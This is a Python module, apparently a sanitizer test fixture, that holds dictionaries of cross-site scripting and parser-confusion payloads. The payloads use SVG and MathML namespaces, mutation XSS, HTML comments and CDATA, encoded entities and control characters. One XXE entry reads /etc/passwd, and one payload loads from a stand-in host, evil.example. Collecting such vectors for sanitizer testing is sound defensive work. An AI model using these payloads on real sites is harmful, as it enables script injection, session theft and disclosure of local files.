"""What parsers read differently: other namespaces, comments, entities, broken characters."""

NAMESPACES = {
    "a script in a drawing": "<svg><script>alert(1)</script></svg>",
    "a script of a drawing": "<svg><script href=data:,alert(1) /></svg>",
    "a script in a drawing by entities": "<svg><script>&#97;lert(1)</script></svg>",
    "a link in a drawing": "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "a link that is animated": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>"
    ),
    "a value that is set": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "a movement that begins": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "a drawing that is used": "<svg><use href='data:image/svg+xml,<svg id=x/>#x' /></svg>",
    "a picture in a drawing": "<svg><image href=//evil.example/x onerror=alert(1)></svg>",
    "a page in a drawing": "<svg><foreignObject><iframe src=javascript:alert(1)></svg>",
    "a title in a drawing": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "a description in a drawing": "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "a style in a drawing": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "a link in mathematics": "<math href=javascript:alert(1)>x</math>",
    "a link in an operator": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "an action in mathematics": (
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"
    ),
    "a page in mathematics": (
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>"
    ),
    "a page that mutates in mathematics": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        "&lt;img src=x onerror=alert(1)&gt;'>"
    ),
    "a form that mutates in mathematics": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"
    ),
    "an option that mutates": "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "a select that mutates": "<select><template><img src=x onerror=alert(1)></template></select>",
    "a table that mutates": "<table><td><svg><desc><td></desc><script>alert(1)</script>",
    "a text field that mutates": "<textarea><p id='</textarea><img src=x onerror=alert(1)>'>",
    "a title that mutates": "<title><a id='</title><img src=x onerror=alert(1)>'>",
    "an example that mutates": "<xmp><p id='</xmp><img src=x onerror=alert(1)>'>",
    "words without frames": "<noframes><p id='</noframes><img src=x onerror=alert(1)>'>",
    "words without embedding": "<noembed><p id='</noembed><svg/onload=alert(1)>'>",
    "a prefix of its own": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
}

COMMENTS = {
    "a comment": "<!-- <script>alert(1)</script> -->",
    "a comment of Internet Explorer": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "a comment that ends at once": "<!--><img src=x onerror=alert(1)>-->",
    "a comment that ends with a mark": "<!-- --!><img src=x onerror=alert(1)> -->",
    "a comment with dashes": "<!--- <img src=x onerror=alert(1)> ---!>",
    "a comment that is none": "</ x><img src=x onerror=alert(1)>",
    "a declaration": "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "an entity of a file": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "character data that ends twice": "<![CDATA[x]]>]]><script>alert(1)</script>",
    "an instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "an instruction of PHP": "<?php echo '<script>alert(1)</script>'; ?>",
    "an instruction that ends early": "<?x ><img src=x onerror=alert(1)>?>",
    "a bracket with a per cent": "<% alert(1) %><%= 1 %>",
}

ENTITIES = {
    "a tag by names": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a tag by numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "a tag in hexadecimal": "&#x3c;img src=x onerror=alert(1)&#x3E;",
    "a tag by numbers without ends": "&#60script&#62alert(1)&#60/script&#62",
    "a tag by names without ends": "&ltscript&gtalert(1)&lt/script&gt",
    "a tag by upper-case names": "&LT;script&GT;alert(1)&LT;/script&GT;",
    "a tag by padded numbers": "&#0000000000060;script&#x000000000003e;",
    "a tag that was escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "a tag in per cent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "a tag as JavaScript writes it": "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "a tag behind backslashes": "\\<script\\>alert(1)\\</script\\>",
    "a tag in full width": "＜script＞alert(1)＜/script＞",
    "a tag in other brackets": "‹script›alert(1)〈/script〉",
    "a tag with a combining stroke": "<\u0338script>alert(1)<\u0338/script>",
    "a tag that folds": "<\u017fcript>alert(1)</\u017fcript><\u212aeygen>",
    "an entity that is none": "&#x110000; &#xD800; &#0; &#x1FFFFFFFFFFFF; &nosuch;",
    "an entity for a script's break": "x&#x2028;<script>&#x2029;alert(1)</script>",
}

CHARACTERS = {
    "a NUL in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "a NUL before a tag": "\x00<script>\x00alert(1)</script>",
    "a tag in another encoding": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "an escape to another encoding": "\x1b$B<script>alert(1)</script>\x1b(B",
    "control characters in a tag": "<\x0bimg\x0csrc=x\x1fonerror=alert(1)\x7f>",
    "a bell, a backspace, an escape": "x\x07\x08\x1b[2J\x1b]0;title\x07y",
    "characters that are none": "\ufffe\uffff\U0001ffff<script>alert(1)</script>",
    "characters for private use": "\ue000\U000f0000<script>alert(1)</script>",
    "a line that goes back": "safe\rSAFE\x0b\x0c\x85\u2028\u2029<script>alert(1)</script>",
    "a tag with an ideographic blank": "<img\u3000src=x\u3000onerror=alert(1)>",
    "marks for interlinear notes": "a\ufff9b\ufffa<script>alert(1)</script>\ufffbc",
}

VECTORS = NAMESPACES | COMMENTS | ENTITIES | CHARACTERS
